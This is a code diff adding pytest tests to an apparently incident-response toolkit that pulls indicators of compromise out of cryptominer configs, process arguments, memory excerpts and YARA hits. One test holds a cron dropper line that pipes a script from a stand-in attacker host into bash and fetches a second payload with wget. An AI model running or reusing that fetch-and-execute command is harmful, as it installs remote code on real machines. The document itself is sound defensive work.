@@ -8,6 +8,7 @@ import pytest
 from minersample import synthetic_monero_wallet
 
 from irkit.analysis.iocs import (
+    download_iocs,
     iocs_csv,
     iocs_from_argv,
     iocs_from_command,
@@ -16,6 +17,8 @@ from irkit.analysis.iocs import (
     iocs_stix,
 )
 from irkit.analysis.wallets import classify_wallet, find_wallets
+from irkit.hunt.around import around_in_data
+from irkit.hunt.hits import MatchedString, YaraHit, excerpt
 
 WALLET = synthetic_monero_wallet()
 
@@ -121,3 +124,56 @@ def test_outputs_json_csv_and_stix() -> None:
     note = next(o for o in bundle["objects"] if o["type"] == "note")
     assert "worker: w" in note["content"]
     assert set(note["object_refs"]) == {o["id"] for o in indicators}
+
+
+STOCK_CONFIG = json.dumps(
+    {
+        "pools": [
+            {"url": "donate.v2.xmrig.com:3333", "user": "YOUR_WALLET_ADDRESS", "pass": "x"},
+            {"url": "randomx.xmrig.com:443", "user": "worker1", "rig-id": "worker1"},
+        ]
+    }
+)
+
+
+@pytest.mark.parametrize("source", ["file", "memory"])
+def test_help_text_donation_hosts_and_placeholders_are_no_iocs(source: str) -> None:
+    assert iocs_from_config(STOCK_CONFIG, "xmrig binary", source) == []
+    docs = "stratum+tcp://203.0.113.7:3333 and pool.example.com:4444"
+    assert iocs_from_config(docs, "README", source) == []
+
+
+def test_the_same_hosts_in_live_use_stay() -> None:
+    argv = ["xmrig", "-o", "randomx.xmrig.com:443", "-u", "YOUR_WALLET_ADDRESS", "-p", "x"]
+    found = {(i.ioc_type, i.value) for i in iocs_from_argv(argv, "pid 9")}
+    assert ("pool-host", "randomx.xmrig.com:443") in found
+    assert not any(kind in ("wallet", "pool-login", "worker") for kind, _ in found)
+    live = iocs_from_argv(["m", "-o", "stratum+tcp://203.0.113.7:3333"], "pid 9")
+    assert ("pool-host", "203.0.113.7:3333") in {(i.ioc_type, i.value) for i in live}
+
+
+def test_the_download_url_of_a_cron_dropper_and_its_host() -> None:
+    line = "curl -fsSL http://198.51.100.23:8080/ldr.sh | bash; wget -q https://dl.evil.test/x -O-"
+    found = {(i.ioc_type, i.value, i.source) for i in download_iocs(line, "cron line 4")}
+    assert ("download-url", "http://198.51.100.23:8080/ldr.sh", "persistence") in found
+    assert ("download-host", "198.51.100.23", "persistence") in found
+    assert ("download-url", "https://dl.evil.test/x", "persistence") in found
+
+
+def test_a_config_cut_out_of_memory_still_gives_pool_wallet_and_worker() -> None:
+    window = (
+        'ge-pages":true},"pools":[{"url":"10.1.2.3:3333","user":"' + WALLET
+        + '","pass":"x","rig-id":"rig01","algo":"rx/0","keepalive":true,"tl'
+    )  # fmt: skip
+    found = {(i.ioc_type, i.value) for i in iocs_from_config(window, "pid 1 at 0x10", "memory")}
+    assert {("pool-host", "10.1.2.3:3333"), ("wallet", WALLET), ("worker", "rig01")} <= found
+
+
+def test_a_wallet_cut_in_the_excerpt_is_read_whole_around_the_match() -> None:
+    data = b"\0" * 300 + b'{"login":"' + WALLET.encode() + b'","pass":"x"}' + b"\0" * 50
+    offset = data.index(b"login")
+    hit = YaraHit("Pool_Login", "t", "critical", "", "f", "file")
+    hit.add_strings([MatchedString("$login", offset, 5, excerpt(data[offset : offset + 200]))])
+    assert WALLET not in hit.strings[0].excerpt, "the excerpt is cut at 64 bytes"
+    wallets = [i.value for i in iocs_from_config(around_in_data(hit, data), "f", "file")]
+    assert wallets == [WALLET]
